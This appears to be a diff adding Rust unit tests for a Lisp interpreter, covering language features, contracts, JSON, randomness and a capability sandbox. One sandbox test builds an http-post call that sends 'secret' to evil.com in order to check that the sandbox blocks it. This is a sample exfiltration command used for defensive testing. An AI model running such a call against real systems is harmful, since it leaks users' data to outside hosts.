+        assert_eq!(eval_ok("(defun f (a &optional b) (list a b)) (f 1)"), "(1 nil)");
+        assert_eq!(eval("(defun f (a &optional b) a) (f 1 2 3)").unwrap_err(), "'f' expects 1 to 2 argument(s), got 3");
+        assert_eq!(eval_ok(":key"), ":key");
+    }
+
+    #[test]
+    fn test_multiple_values() {
+        assert_eq!(eval_ok("(values 1 \"two\")"), "(values 1 \"two\")");
+        assert_eq!(eval_ok("(values 1)"), "1");
+        assert_eq!(eval_ok("(values (hash-map 'a 1 'b 2))"), "(1 2)");
+        let divmod = "(defun divmod (n d) (values (/ (- n (mod n d)) d) (mod n d)))";
+        assert_eq!(eval_ok(&format!("{} (let-values (((q r) (divmod 17 5)) ((one) 1)) (list q r one))", divmod)), "(3 2 1)");
+        assert_eq!(
+            eval(&format!("{} (let-values (((q) (divmod 17 5))) q)", divmod)).unwrap_err(),
+            "'let-values' binding ((q) (divmod 17 5)) expects 1 value(s), got 2"
+        );
+        assert!(eval("(let-values ((x (values 1 2))) x)").is_err());
+    }
+
+    #[test]
+    fn test_destructuring() {
+        assert_eq!(eval_ok("(destructuring-bind (a (b c) &rest r) (list 1 (list 2 3) 4 5) (list a b c r))"), "(1 2 3 (4 5))");
+        assert_eq!(eval_ok("(let (((x y) (list 1 2)) (z (+ x y))) (list z y x))"), "(3 2 1)");
+        assert_eq!(
+            eval("(destructuring-bind (a b) (list 1 2 3) a)").unwrap_err(),
+            "'destructuring-bind' pattern (a b) does not match (1 2 3): expected 2 element(s), got 3"
+        );
+        assert_eq!(
+            eval("(let (((a (b)) (list 1 2))) a)").unwrap_err(),
+            "'let' pattern (a (b)) does not match (1 2): expected a list, got 2"
+        );
+        assert!(eval("(destructuring-bind (a &rest) (list 1) a)").unwrap_err().contains("&rest must be followed"));
+    }
+
+    #[test]
+    fn test_defstruct() {
+        let source = "(defstruct point (x y (label : string)) :impl ((sum (self) : number (+ (point-x self) (point-y self))) (shifted (self dx) (make-point (+ (point-x self) dx) (point-y self) (point-label self)))))";
+        assert_eq!(eval_ok(&format!("{} (make-point 1 2 \"a\")", source)), "#s(point :x 1 :y 2 :label \"a\")");
+        assert_eq!(eval_ok(&format!("{} (list (point-label (make-point 1 2 \"a\")) (sum (shifted (make-point 1 2 \"a\") 10)))", source)), "(\"a\" 13)");
+        assert_eq!(eval(&format!("{} (make-point 1 2)", source)).unwrap_err(), "'make-point' expects 3 argument(s), got 2");
+        assert!(eval("(defstruct point (x) :impl ((norm () x)))").unwrap_err().contains("must take self"));
+    }
+
+    #[test]
+    fn test_traits_and_generics() {
+        let shapes = "(defstruct circle (r)) (defstruct square (side)) \
+                      (deftrait shape (area (self) number) (describe (self) : string \"a shape\")) \
+                      (defimpl shape circle (area (self) (* 3 (circle-r self) (circle-r self)))) \
+                      (defimpl shape square (area (self) (* (square-side self) (square-side self))) (describe (self) \"a square\"))";
+        assert_eq!(eval_ok(&format!("{} (list (area (make-circle 1)) (area (make-square 2)) (describe (make-circle 1)) (describe (make-square 2)))", shapes)), "(3 4 \"a shape\" \"a square\")");
+        assert_eq!(eval(&format!("{} (area 5)", shapes)).unwrap_err(), "Method 'area' is not defined for number '5'");
+        assert_eq!(eval(&format!("{} (square-side (make-circle 1))", shapes)).unwrap_err(), "'square-side' expects a square, got circle '#s(circle :r 1)'");
+        assert_eq!(eval("(defimpl shape circle (area (self) 1))").unwrap_err(), "'defimpl' refers to unknown trait 'shape'");
+        assert_eq!(eval_ok("(defun id<T> ((x : T)) : T x) (defun pair<A,B> ((a : A) (b : B)) (list a b)) (pair (id 1) \"b\")"), "(1 \"b\")");
+        assert_eq!(eval_ok("(defstruct v (n) :impl ((length (self) (v-n self)))) (list (length (make-v 2)) (length (list 1 2 3)))"), "(2 3)");
+        assert_eq!(eval_ok("(require-crate \"regex\" \"1\" :use (Regex)) (defstruct m ((re : Regex))) (m-re (make-m 1))"), "1");
+        assert!(eval("(require-crate regex)").is_err());
+    }
+
+    #[test]
+    fn test_lists_strings_and_maps() {
+        assert_eq!(eval_ok("(map (lambda (x) (* x x)) (list 1 2 3))"), "(1 4 9)");
+        assert_eq!(eval_ok("(filter (lambda (x) (> x 1)) '(1 2 3))"), "(2 3)");
+        assert_eq!(eval_ok("(reduce + 0 (append '(1 2) '(3)))"), "6");
+        assert_eq!(eval_ok("(car (cdr (reverse (list 1 2 3))))"), "2");
+        assert_eq!(eval_ok("(string-append \"ab\" (number->string 1.5))"), "\"ab1.5\"");
+        assert_eq!(eval_ok("(substring \"hello\" 1 3)"), "\"el\"");
+        assert_eq!(eval_ok("(list (to-bool 0) (to-bool nil) (to-bool '()) (symbol->string 'ab))"), "(true false true \"ab\")");
+        assert_eq!(eval_ok("(+ (string->number \" 4.5 \") (string-length \"héllo\"))"), "9.5");
+        assert_eq!(eval_ok("(assoc (hash-map \"a\" 1 'b 2) \"a\" 3)"), "{\"a\" 3, b 2}");
+        assert_eq!(eval_ok("(get (dissoc (hash-map 1 'x 2 'y) 1) 1 'none)"), "none");
+        assert_eq!(eval_ok("(= (hash-map 1 2 3 4) (hash-map 3 4 1 2))"), "true");
+        assert_eq!(eval_ok("(let ((xs '(2 3))) `(1 ,@xs ,(+ 2 2)))"), "(1 2 3 4)");
+        assert_eq!(eval_ok("pi"), std::f64::consts::PI.to_string());
+    }
+
+    #[test]
+    fn test_macros() {
+        assert_eq!(eval_ok("(defmacro twice (x) (+ x x)) (twice 21)"), "42");
+        assert_eq!(eval_ok("(defmacro unless2 (c body) (if c 'skipped body)) (defun f (x) (unless2 x 'ran)) (f false)"), "ran");
+        // Compiler macros only rewrite compiled code; interpreted calls call the function
+        assert_eq!(eval_ok("(defun sq (x) (* x x)) (define-compiler-macro sq (x) 0) (sq 5)"), "25");
+    }
+
+    #[test]
+    fn test_redefinition() {
+        assert_eq!(eval_ok("(defun f (x) (* x 2)) (defun g (x) (f x)) (defun f (x) (* x 3)) (g 2)"), "6");
+        assert_eq!(eval_ok("(defun f (x) x) (defmacro f (x) (+ x 1)) (f 1)"), "2");
+        assert_eq!(eval_ok("(defmacro f (x) (+ x 1)) (defun f (x) x) (f 1)"), "1");
+
+        let mut interpreter = Interpreter::new();
+        interpreter.eval_program(&parse(tokenize("(define x 1) (defmacro m (a) a)").unwrap()).unwrap()).unwrap();
+        assert!(interpreter.undefine("x") && interpreter.undefine("m"));
+        assert!(!interpreter.undefine("x"));
+        assert!(!interpreter.expander().is_macro("m"));
+    }
+
+    #[test]
+    fn test_errors() {
+        assert_eq!(eval("(frobnicate 1)").unwrap_err(), "Undefined symbol: frobnicate");
+        assert_eq!(eval("(lst 1 2)").unwrap_err(), "Undefined symbol: lst (did you mean 'list'?)");
+        assert_eq!(eval("(let ((count 1)) (+ cont 1))").unwrap_err(), "Undefined symbol: cont (did you mean 'count'?)");
+        assert_eq!(eval("(car 1 2)").unwrap_err(), "'car' requires exactly 1 argument(s)");
+        assert_eq!(eval("(+ 1 \"a\")").unwrap_err(), "'+' expects numbers, got string '\"a\"'");
+        assert_eq!(eval("(defun f (x) x) (f)").unwrap_err(), "'f' expects 1 argument(s), got 0");
+        assert_eq!(
+            eval("(assert-equal 3 (+ 1 1))").unwrap_err(),
+            "(assert-equal 3 (+ 1 1)) failed\n  - expected: 3\n  + actual:   2"
+        );
+
+        let deep = parse(tokenize("(defun f (n) (+ 1 (f n))) (f 1)").unwrap()).unwrap();
+        let error = Interpreter::new().with_max_depth(50).eval_program(&deep).unwrap_err();
+        assert_eq!(error, "Maximum evaluation depth of 50 exceeded");
+    }
+
+    #[test]
+    fn test_assert_and_contracts() {
+        assert_eq!(eval_ok("(assert (> 2 1) \"two exceeds one\")"), "nil");
+        assert_eq!(eval("(assert (< 2 1) \"two exceeds one\")").unwrap_err(), "Assertion failed: two exceeds one");
+        assert_eq!(eval("(assert (= 1 2))").unwrap_err(), "Assertion failed: (= 1 2)");
+
+        let isqrt = r#"
+            (defun isqrt (n)
+              (declare (requires (>= n 0)) (ensures (<= (* result result) n) (> (* (+ result 1) (+ result 1)) n)))
+              (isqrt-from n 0))
+            (defun isqrt-from (n r) (if (> (* (+ r 1) (+ r 1)) n) r (isqrt-from n (+ r 1))))
+        "#;
+        assert_eq!(eval_ok(&format!("{} (isqrt 17)", isqrt)), "4");
+        assert_eq!(eval(&format!("{} (isqrt -1)", isqrt)).unwrap_err(), "Precondition of 'isqrt' failed: (>= n 0)");
+
+        let broken = "(defun inc (x) (declare (capabilities) (ensures (> result x))) (- x 1)) (inc 5)";
+        assert_eq!(eval(broken).unwrap_err(), "Postcondition of 'inc' failed: (> result x) (result: 4)");
+        let program = parse(tokenize(broken).unwrap()).unwrap();
+        assert_eq!(Interpreter::new().with_contracts(false).eval_program(&program).unwrap().to_string(), "4");
+    }
+
+    #[test]
+    fn test_json() {
+        let source = r#"(define doc (json-parse "{\"name\": \"ada\", \"tags\": [1, 2.5, null], \"ok\": true}"))"#;
+        let mut interpreter = Interpreter::new();
+        interpreter.eval_program(&parse(tokenize(source).unwrap()).unwrap()).unwrap();
+        let mut eval_in = |source: &str| interpreter.eval_program(&parse(tokenize(source).unwrap()).unwrap()).map(|value| value.to_string());
+        assert_eq!(eval_in("(json-get doc \"name\")").unwrap(), "\"ada\"");
+        assert_eq!(eval_in("(json-get (json-get doc \"tags\") 1)").unwrap(), "2.5");
+        assert_eq!(eval_in("(json-get doc \"missing\")").unwrap(), "nil");
+        assert_eq!(eval_in("(json-stringify (json-get doc \"tags\"))").unwrap(), "\"[1,2.5,null]\"");
+        assert_eq!(
+            eval_in("(json-stringify (hash-map 'a (list true \"x\\\"y\") \"b\" nil))").unwrap(),
+            r#""{\"a\":[true,\"x\\\"y\"],\"b\":null}""#
+        );
+        assert!(eval_in("(json-parse \"{\")").unwrap_err().starts_with("'json-parse' failed"));
+        assert!(eval_in("(json-stringify (hash-map 1 2))").unwrap_err().contains("keys must be strings"));
+    }
+
+    #[test]
+    fn test_time_and_random() {
+        let draw = |seed| {
+            let program = parse(tokenize("(list (random) (random-int 1 7) (random-int -3 -1))").unwrap()).unwrap();
+            Interpreter::new().with_seed(seed).eval_program(&program).unwrap().to_string()
+        };
+        assert_eq!(draw(42), draw(42));
+        assert_ne!(draw(42), draw(43));
+        // The same draws as a program compiled with `--seed 42`
+        let program = parse(tokenize("(list (random-int 1 100) (random))").unwrap()).unwrap();
+        let value = Interpreter::new().with_seed(42).eval_program(&program).unwrap();
+        assert_eq!(value.to_string(), "(65 0.1599103928769201)");
+        let program = parse(tokenize("(random-int 1 7)").unwrap()).unwrap();
+        let mut interpreter = Interpreter::new();
+        for _ in 0..100 {
+            let Value::Number(n) = interpreter.eval_program(&program).unwrap() else { panic!("not a number") };
+            assert!((1.0..7.0).contains(&n) && n.fract() == 0.0, "{}", n);
+        }
+        assert!(eval("(random-int 2 2)").unwrap_err().contains("lo < hi"));
+        assert_eq!(eval_ok("(let ((start (now))) (>= (elapsed start) 0))"), "true");
+        assert_eq!(eval_ok("(>= (elapsed (now)) 0)"), "true");
+
+        let clock = parse(tokenize("(now)").unwrap()).unwrap();
+        let error = Interpreter::new().with_sandbox(SandboxConfig::new()).eval_program(&clock).unwrap_err();
+        assert!(error.starts_with("Sandbox violation:"), "{}", error);
+    }
+
+    #[test]
+    fn test_sandbox() {
+        let program = parse(tokenize("(getenv \"HOME\")").unwrap()).unwrap();
+        let error = Interpreter::new().with_sandbox(SandboxConfig::new()).eval_program(&program).unwrap_err();
+        assert!(error.starts_with("Sandbox violation:"), "{}", error);
+
+        // Arguments are passed as they are, without a shell to interpret them
+        assert_eq!(eval_ok("(string-length (run-command \"echo\" \"a; b\"))"), "5");
+        let command = parse(tokenize("(run-command \"ls\")").unwrap()).unwrap();
+        let error = Interpreter::new().with_sandbox(SandboxConfig::new()).eval_program(&command).unwrap_err();
+        assert!(error.starts_with("Sandbox violation:"), "{}", error);
+
+        let post = parse(tokenize("(http-post \"https://evil.com/upload\" \"secret\")").unwrap()).unwrap();
+        let mut config = SandboxConfig::new();
+        config.add_capability(Capability::Network { host_pattern: "api.example.com".to_string(), port: None });
+        let error = Interpreter::new().with_sandbox(config).eval_program(&post).unwrap_err();
+        assert!(error.contains("evil.com"), "{}", error);
+
+        let looping = parse(tokenize("(defun spin (n) (spin (+ n 1))) (spin 0)").unwrap()).unwrap();
+        let config = SandboxConfig::new().with_max_fuel(100);
+        let error = Interpreter::new().with_sandbox(config).eval_program(&looping).unwrap_err();
+        assert!(error.starts_with("Sandbox violation:"), "{}", error);
+    }
+
+    #[test]
+    fn test_sandbox_file_capabilities() {
+        let dir = std::env::temp_dir().join(format!("lisp-interpreter-files-{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let file = dir.join("data.txt").display().to_string();
+        std::fs::write(&file, "contents").unwrap();
+        let run = |capability: Capability, source: String| {
+            let mut config = SandboxConfig::new();
+            config.add_capability(capability);
+            Interpreter::new().with_sandbox(config).eval_program(&parse(tokenize(&source).unwrap()).unwrap())
+        };
+        let read = format!("(read-file {:?})", file);
+        let write = format!("(write-file {:?} \"new\")", file);
+
+        assert_eq!(run(Capability::FileRead(dir.clone()), read.clone()).unwrap().to_print_string(), "contents");
+        assert!(run(Capability::FileRead(dir.clone()), write.clone()).unwrap_err().starts_with("Sandbox violation:"));
+        assert!(run(Capability::FileWrite(dir.clone()), write).is_ok());
+        assert!(run(Capability::FileWrite(dir.clone()), read).unwrap_err().starts_with("Sandbox violation:"));
+        let _ = std::fs::remove_dir_all(&dir);
+    }
+
+    #[test]
+    fn test_declared_capabilities_limit_sandboxed_calls() {
+        let mut config = SandboxConfig::new();
+        config.add_capability(Capability::EnvRead("*".to_string()));
+        let run = |source: &str| {
+            let program = parse(tokenize(source).unwrap()).unwrap();
+            Interpreter::new().with_sandbox(config.clone()).eval_program(&program)
+        };
+        assert!(run("(defun home () (declare (capabilities (env-read \"HOME\"))) (getenv \"HOME\")) (home)").is_ok());
+        let error = run("(defun user () (declare (capabilities (env-read \"HOME\"))) (getenv \"USER\")) (user)").unwrap_err();
+        assert!(error.starts_with("Sandbox violation:"), "{}", error);
+        // The scope ends with the call
+        assert!(run("(defun none () (declare (capabilities)) 1) (none) (getenv \"USER\")").is_ok());
+
+        assert_eq!(eval_ok("(defun f () (declare (pure) (since \"1.0\")) 1) (f)"), "1");
+        let program = parse(tokenize("(defun f () (declare (fast)) 1)").unwrap()).unwrap();
+        assert!(Interpreter::new().eval_program(&program).unwrap_err().starts_with("Unknown declaration 'fast'"));
+    }
+}